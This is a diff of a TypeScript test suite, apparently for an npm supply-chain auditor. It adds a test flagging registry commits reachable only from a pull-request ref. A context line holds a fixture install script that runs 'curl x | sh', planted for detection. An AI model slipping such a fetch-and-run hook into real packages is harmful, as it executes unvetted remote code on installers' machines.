@@ -131,6 +131,23 @@ describe("npm: specs", () => {
     expect(r.source.refHow).toMatch(/gitHead/);
   });
 
+  it("flags a gitHead that no branch or tag contains (a fork's or a pull request's commit)", async () => {
+    const { doc } = await publishNpm(server, dir, mirror, { name: "forkish", version: "1.0.0", git: GIT, tag: null });
+    const bare = join(mirror, "acme+forkish", "repo");
+    const g = (...a: string[]) => execFileSync("git", ["--git-dir", bare, "-c", "user.name=t", "-c", "user.email=t@t", ...a], { encoding: "utf8" }).trim();
+    // Same tree as the branch, but a commit only a pull-request ref points at.
+    const stray = g("commit-tree", "HEAD^{tree}", "-p", "HEAD", "-m", "from a fork");
+    g("update-ref", "refs/pull/1/head", stray);
+    server.json("/forkish/1.0.0", { ...doc, gitHead: stray });
+    const r = await auditSpec("npm:forkish@1.0.0", { registries: { npm: server.base }, mirrorDir: mirror, fetcher: noRetry() });
+    expect(r.git.commit).toBe(stray);
+    expect(r.findings.filter((f) => f.rule === "registry-commit-unreachable").map((f) => f.severity)).toEqual(["medium"]);
+    // The branch head itself is fine.
+    server.json("/forkish/1.0.0", { ...doc, gitHead: g("rev-parse", "main") });
+    const ok = await auditSpec("npm:forkish@1.0.0", { registries: { npm: server.base }, mirrorDir: mirror, fetcher: noRetry() });
+    expect(ok.findings.filter((f) => f.rule === "registry-commit-unreachable")).toEqual([]);
+  });
+
   it("finds a file added to the published tarball only", async () => {
     await publishNpm(server, dir, mirror, { name: "sneaky", version: "2.0.0", git: GIT, tarball: { ...GIT, "lib/install.js": "require('child_process').exec('curl x | sh')\n" } });
     const r = await auditSpec("npm:sneaky@2.0.0", { registries: { npm: server.base }, mirrorDir: mirror, fetcher: noRetry() });
